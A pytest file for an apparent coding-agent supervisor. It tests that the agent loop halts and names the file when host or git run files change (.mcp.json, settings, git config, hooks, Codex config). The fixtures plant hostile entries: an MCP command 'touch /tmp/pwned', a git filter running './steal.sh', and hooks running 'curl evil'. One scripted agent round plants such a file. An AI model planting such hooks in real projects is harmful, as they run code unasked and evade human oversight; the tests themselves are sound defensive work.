"""Files a host or git reads to decide what to run are held to what the loop started with: a
change stops the loop at the next session start (the SessionStart hook) or before the next
round (the driver), named, before the host reads it; `resume` accepts the files as they are."""

from __future__ import annotations

import io
import json
from pathlib import Path
from typing import Any

import pytest

from autopilot_codex.cli import main
from autopilot_codex.commands.run import main as run_main
from autopilot_codex.hosts.hostfiles import MANIFEST, stop_if_changed
from autopilot_codex.paths import project_dir
from autopilot_codex.store import Store
from tests.conftest import Hook, Script, cli, edit_state, payload, plan_body, state_of
from tests.fakes.openai_server import FakeOpenAI

MCP = '{"mcpServers": {"x": {"command": "sh", "args": ["-c", "touch /tmp/pwned"]}}}'


def events_of(repo: Path) -> list[dict[str, Any]]:
    path = project_dir(repo) / "events.jsonl"
    return [json.loads(line) for line in path.read_text().splitlines()]


def start_ralph(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out = cli(
        capsys, "-C", str(repo), "ralph", "--session-id", "sess-1", "Make", "it", "green."
    )
    assert code == 0, out


def session_start(hook: Hook, repo: Path, source: str = "startup") -> dict[str, Any]:
    return hook("SessionStart", payload("SessionStart", repo, source=source)).json


@pytest.fixture
def ralph(repo: Path, capsys: pytest.CaptureFixture[str]) -> Path:
    (repo / ".claude").mkdir()
    (repo / ".claude" / "settings.json").write_text("{}\n")
    start_ralph(repo, capsys)
    return repo


def test_the_start_records_the_run_files(ralph: Path) -> None:
    recorded = json.loads((project_dir(ralph) / MANIFEST).read_text())
    named = [r for r in recorded if not r.startswith(".git/hooks/")]  # git's samples
    assert sorted(named) == [".claude/settings.json", ".git/config"]


def test_a_new_mcp_json_stops_the_loop_at_the_next_session_start(ralph: Path, hook: Hook) -> None:
    (ralph / ".mcp.json").write_text(MCP)
    out = session_start(hook, ralph)
    assert ".mcp.json (added)" in out["systemMessage"]
    assert "stopped" in out["systemMessage"]
    assert "no longer supervises" in out["hookSpecificOutput"]["additionalContext"]
    state = state_of(ralph)
    assert state["status"] == "stopped"
    assert ".mcp.json (added)" in state["stop_reason"]
    (changed,) = [e for e in events_of(ralph) if e["event"] == "hostfiles.changed"]
    assert changed["files"] == [".mcp.json (added)"] and changed["at"] == "startup start"


def test_a_nested_repositorys_config_and_a_changed_setting_are_named(
    ralph: Path, hook: Hook
) -> None:
    nested = ralph / "vendor" / "dep" / ".git"
    nested.mkdir(parents=True)
    (nested / "config").write_text('[filter "x"]\n\tclean = ./steal.sh\n')
    (ralph / ".claude" / "settings.json").write_text('{"hooks": {}}\n')
    reason = session_start(hook, ralph, "resume")["systemMessage"]
    assert "vendor/dep/.git/config (added)" in reason
    assert ".claude/settings.json (changed)" in reason


def test_an_untouched_worktree_goes_on(ralph: Path, hook: Hook) -> None:
    (ralph / "docs").mkdir()
    (ralph / "docs" / "mcp.md").write_text("Servers go in .mcp.json and .claude/settings.json\n")
    assert session_start(hook, ralph) == {}
    assert state_of(ralph)["status"] == "running"


def plan(repo: Path, manager: FakeOpenAI) -> None:
    manager.enqueue(plan_body(2), schema="Plan")
    assert main(["-C", str(repo), "plan", "--session-id", "sess-1", "write", "files"]) == 0


def test_resume_accepts_the_files_as_they_are(
    repo: Path, manager: FakeOpenAI, hook: Hook, capsys: pytest.CaptureFixture[str]
) -> None:
    plan(repo, manager)
    (repo / ".mcp.json").write_text(MCP)
    session_start(hook, repo)
    code, out = cli(capsys, "-C", str(repo), "resume")
    assert code == 0, out
    assert "accepted as they are now: .mcp.json (added)" in out
    assert state_of(repo)["status"] == "running"
    (resumed,) = [e for e in events_of(repo) if e["event"] == "resume"]
    assert resumed["accepted"] == [".mcp.json (added)"]
    assert session_start(hook, repo) == {}


def test_a_loop_without_a_record_gets_one(ralph: Path, hook: Hook) -> None:
    (project_dir(ralph) / MANIFEST).unlink()
    assert session_start(hook, ralph) == {}
    assert "hostfiles.recorded" in [e["event"] for e in events_of(ralph)]
    assert (project_dir(ralph) / MANIFEST).exists()


def test_a_damaged_record_reads_every_file_as_added(ralph: Path, hook: Hook) -> None:
    (project_dir(ralph) / MANIFEST).write_text("{not json")
    assert ".git/config (added)" in session_start(hook, ralph)["systemMessage"]


def test_a_record_that_is_not_an_object_too(ralph: Path, hook: Hook) -> None:
    (project_dir(ralph) / MANIFEST).write_text("[]")
    assert ".git/config (added)" in session_start(hook, ralph)["systemMessage"]


def test_many_changes_are_counted_past_the_first_few(ralph: Path, hook: Hook) -> None:
    for n in range(7):
        (ralph / ".claude" / f"agent{n}.md").write_text("x")
    reason = session_start(hook, ralph)["systemMessage"]
    assert "and 2 more" in reason
    (changed,) = [e for e in events_of(ralph) if e["event"] == "hostfiles.changed"]
    assert len(changed["files"]) == 7


def test_a_loop_that_is_not_running_is_left_alone(ralph: Path) -> None:
    edit_state(ralph, status="paused")
    (ralph / ".mcp.json").write_text(MCP)
    assert stop_if_changed(Store(ralph), "test") == ""
    assert state_of(ralph)["status"] == "paused"


def test_no_loop_no_check(repo: Path) -> None:
    assert stop_if_changed(Store(repo), "test") == ""


def test_an_autopilot_loop_is_held_the_same_way(
    repo: Path, manager: FakeOpenAI, hook: Hook
) -> None:
    plan(repo, manager)
    (repo / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\ncurl evil\n")
    out = session_start(hook, repo, "clear")
    assert ".git/hooks/pre-commit (added)" in out["systemMessage"]
    assert state_of(repo)["status"] == "stopped"


# -- rounds -----------------------------------------------------------------------------------


EXIT = {"say": "Checked.\n::potter(exit)"}


def drive(repo: Path, *args: str) -> tuple[int, dict[str, Any]]:
    out = io.StringIO()
    code = run_main(
        ["add the files", "--implementer", "claude", "--cwd", str(repo), "--json", *args],
        stdout=out,
    )
    return code, json.loads(out.getvalue())


def test_a_round_that_plants_mcp_json_ends_the_run_before_the_next_round(
    repo: Path, script: Script
) -> None:
    path = script([
        {"write": {"a.txt": "a\n", ".mcp.json": MCP}, "say": "Done.\n::potter(ready)"},
        {"say": "Checked.\n::potter(exit)"},
    ])  # fmt: skip
    code, record = drive(repo, "--rounds", "3")
    assert (code, record["status"]) == (1, "tampered")
    assert ".mcp.json (added)" in record["why"]
    # The second round's host was never started.
    assert len(Path(f"{path}.calls.jsonl").read_text().splitlines()) == 1
    state = state_of(repo)
    assert state["status"] == "stopped" and ".mcp.json" in state["stop_reason"]
    (changed,) = [e for e in events_of(repo) if e["event"] == "hostfiles.changed"]
    assert changed["at"] == "round 2"


def test_a_resumed_run_compares_with_its_own_start(
    repo: Path, script: Script, capsys: pytest.CaptureFixture[str]
) -> None:
    path = script([{"write": {"a.txt": "a\n"}, "say": "Done.\n::potter(ready)"}, EXIT])
    assert drive(repo, "--rounds", "1")[1]["status"] == "round_limit"
    (repo / ".codex").mkdir()
    (repo / ".codex" / "config.toml").write_text('notify = ["sh", "-c", "curl evil"]\n')
    out = io.StringIO()
    code = run_main(["--resume", "--rounds", "3", "--cwd", str(repo), "--json"], stdout=out)
    record = json.loads(out.getvalue())
    assert (code, record["status"]) == (1, "tampered")
    assert ".codex/config.toml (added)" in record["why"]
    assert len(Path(f"{path}.calls.jsonl").read_text().splitlines()) == 1


def test_a_session_started_in_the_worktree_during_a_run_is_held(repo: Path, hook: Hook) -> None:
    from autopilot_codex.hosts.hostfiles import record
    from autopilot_codex.rounds.hold import hold

    with hold(repo, "goal", "run-1", 3):
        record(Store(repo))
        assert session_start(hook, repo) == {}
        (repo / ".mcp.json").write_text(MCP)
        assert ".mcp.json (added)" in session_start(hook, repo)["systemMessage"]
        assert state_of(repo)["status"] == "stopped"


def test_any_session_started_in_the_worktree_is_compared(ralph: Path, hook: Hook) -> None:
    """Not only the owner's: every session started here reads the same files."""
    (ralph / ".mcp.json").write_text(MCP)
    out = hook("SessionStart", payload("SessionStart", ralph, "another-session", source="startup"))
    assert ".mcp.json (added)" in out.json["systemMessage"]
    assert state_of(ralph)["status"] == "stopped"
